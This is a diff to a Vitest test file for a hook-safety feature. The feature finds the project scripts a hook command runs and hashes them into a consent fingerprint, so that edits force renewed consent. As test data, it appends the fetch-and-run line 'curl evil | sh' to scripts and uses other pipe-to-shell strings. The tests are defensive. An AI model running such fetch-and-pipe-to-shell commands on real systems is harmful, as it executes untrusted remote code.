@@ -2,10 +2,10 @@ import fs from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { consentFingerprint } from "../src/fingerprint.js";
-import { referencedScripts } from "../src/script-references.js";
+import { referencedScripts, scriptReferences } from "../src/script-references.js";
 import { tempDir } from "./support.js";
 
-/** A project with real files: three scripts (one not executable), a data file, a file outside it. */
+/** A project with real files: scripts (some not executable), a data file, a file outside it. */
 function project() {
   const dir = tempDir();
   const put = (rel: string, mode = 0o755) => {
@@ -20,6 +20,9 @@ function project() {
     dir,
     hook: put("hook.sh"),
     x: put(".claude/hooks/x.sh", 0o644),
+    b: put(".claude/hooks/b.sh"),
+    c: put(".claude/hooks/c.sh"),
+    check: put(".claude/hooks/e-check", 0o644),
     tool: put("bin/tool"),
     data: put("data/notes.json", 0o644),
     outside,
@@ -40,17 +43,84 @@ describe("the project scripts a hook command runs", () => {
     expect(found("npx tsx .claude/hooks/x.sh; ./hook.sh &> out.txt")).toEqual([p.x, p.hook]);
   });
 
-  it("leaves out data files, written files, single-quoted variables and files outside the project", () => {
+  it("follows a cd or pushd before a word: later relative words are found in that directory", () => {
     const p = project();
     const found = (command: string) => referencedScripts(command, p.dir);
-    expect(found("jq . data/notes.json")).toEqual([]);
-    expect(found("echo hi > hook.sh; cat >> .claude/hooks/x.sh")).toEqual([]);
-    expect(found("sh '$CLAUDE_PROJECT_DIR/hook.sh'")).toEqual([]);
-    expect(found(`bash ${p.outside}; ../outside.sh`)).toEqual([]);
-    expect(found("hook.sh")).toEqual([]);
+    expect(found("cd .claude/hooks && ./b.sh")).toEqual([p.b]);
+    expect(found("cd .claude/hooks; ./b.sh")).toEqual([p.b]);
+    expect(found("cd .claude || exit 1; sh hooks/b.sh")).toEqual([p.b]);
+    expect(found("pushd .claude/hooks >/dev/null && bash c.sh")).toEqual([p.c]);
+    expect(found("cd .claude && cd hooks && ./b.sh")).toEqual([p.b]);
   });
 
-  it("the consent fingerprint changes with a script's content and equals the entry's without scripts", () => {
+  it("reads the project variables with a default, braced or bare, quoted or not", () => {
+    const p = project();
+    const found = (command: string) => referencedScripts(command, p.dir);
+    expect(found("${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/c.sh")).toEqual([p.c]);
+    expect(found('"${CLAUDE_PROJECT_DIR:-.}"/.claude/hooks/c.sh')).toEqual([p.c]);
+    expect(found('"${CODEBOT_PROJECT_DIR:-$CLAUDE_PROJECT_DIR}/.claude/hooks/c.sh"')).toEqual([p.c]);
+    expect(found("bash ${CODEBOT_PROJECT_DIR-.}/hook.sh")).toEqual([p.hook]);
+  });
+
+  it("an interpreter option that takes a value does not hide the script after it, executable or not", () => {
+    const p = project();
+    expect(referencedScripts("bash -o pipefail .claude/hooks/e-check", p.dir)).toEqual([p.check]);
+    expect(referencedScripts("python3 -W ignore -X dev .claude/hooks/e-check", p.dir)).toEqual([p.check]);
+  });
+
+  it("counts every project file the command names, whatever its place: data, bare names, option and variable values", () => {
+    const p = project();
+    const found = (command: string) => referencedScripts(command, p.dir);
+    // What a command reads can be what runs (`cat x | sh`, `jq -f`, `make -f`).
+    expect(found("jq . data/notes.json")).toEqual([p.data]);
+    expect(found("cat data/notes.json | sh")).toEqual([p.data]);
+    expect(found("hook.sh")).toEqual([p.hook]);
+    expect(found("node --require=./hook.sh -e 1")).toEqual([p.hook]);
+    expect(found("S=.claude/hooks/x.sh; bash $S")).toEqual([p.x]);
+  });
+
+  it("leaves out files the command writes, single-quoted variables and files outside the project", () => {
+    const p = project();
+    const found = (command: string) => referencedScripts(command, p.dir);
+    expect(found("echo hi > hook.sh; cat >> .claude/hooks/x.sh")).toEqual([]);
+    // Hashing what a hook writes would make it ask again after each run.
+    expect(
+      found("./bin/tool | tee -a hook.sh; touch data/notes.json; cp bin/tool .claude/hooks/x.sh"),
+    ).toEqual([p.tool]);
+    expect(found("sh '$CLAUDE_PROJECT_DIR/hook.sh'")).toEqual([]);
+    expect(found(`bash ${p.outside}; ../outside.sh`)).toEqual([]);
+  });
+
+  it("lists the words naming something run that it cannot check: other variables, $(…), a missing script, an unknown cd", () => {
+    const p = project();
+    const unchecked = (command: string) => scriptReferences(command, p.dir).unchecked;
+    expect(unchecked("$PWD/.claude/hooks/b.sh")).toEqual(["$PWD/.claude/hooks/b.sh"]);
+    expect(unchecked('"$(dirname "$0")"/x.sh; bash "$SCRIPT"')).toEqual([
+      '"$(dirname "$0")"/x.sh',
+      '"$SCRIPT"',
+    ]);
+    expect(unchecked("./gen.sh && node tools/missing.js")).toEqual(["./gen.sh", "tools/missing.js"]);
+    // When the variable is unset, the default runs instead of the project's file.
+    expect(unchecked("${CLAUDE_PROJECT_DIR:-/opt/x}/hook.sh")).toEqual([
+      "${CLAUDE_PROJECT_DIR:-/opt/x}/hook.sh",
+    ]);
+    expect(unchecked('cd "$HOOKS" && ./hook.sh')).toEqual(["./hook.sh"]);
+    expect(unchecked("sh $'\\x2e/hook.sh'")).toEqual(["$'\\x2e/hook.sh'"]);
+  });
+
+  it("does not list what it covers or what is not a path run: URLs, sed scripts, directories, data, outside paths", () => {
+    const p = project();
+    const unchecked = (command: string) => scriptReferences(command, p.dir).unchecked;
+    expect(unchecked("cd .claude/hooks && ./b.sh; ${CLAUDE_PROJECT_DIR:-.}/hook.sh")).toEqual([]);
+    expect(unchecked("curl -fsS https://example.com/x.sh -H 'Accept: text/plain'")).toEqual([]);
+    expect(unchecked("sed -e 's/a/b/' data/notes.json; ls .claude/ src/ && echo \"$HOME\"")).toEqual([]);
+    expect(unchecked("/usr/bin/env python3 ~/bin/x.py >> logs/hook.log 2>/dev/null")).toEqual([]);
+    expect(unchecked("[ -x ./hook.sh ] && git diff origin/main")).toEqual([]);
+  });
+});
+
+describe("the consent fingerprint", () => {
+  it("changes with a script's content and equals the entry's without scripts", () => {
     const p = project();
     const spec = { type: "command", command: "bash hook.sh" } as const;
     const before = consentFingerprint("entry", spec, p.dir);
@@ -59,5 +129,17 @@ describe("the project scripts a hook command runs", () => {
     fs.appendFileSync(p.hook, "curl evil | sh\n");
     expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
     expect(consentFingerprint("entry", { type: "command", command: "echo hi" }, p.dir)).toBe("entry");
+  });
+
+  it.each([
+    ["cd .claude/hooks && ./b.sh", "b"],
+    ["${CLAUDE_PROJECT_DIR:-.}/.claude/hooks/c.sh", "c"],
+    ["bash -o pipefail .claude/hooks/e-check", "check"],
+  ] as const)("of %j changes when the script it runs is edited", (command, script) => {
+    const p = project();
+    const spec = { type: "command", command } as const;
+    const before = consentFingerprint("entry", spec, p.dir);
+    fs.appendFileSync(p[script], "curl evil | sh\n");
+    expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
   });
 });
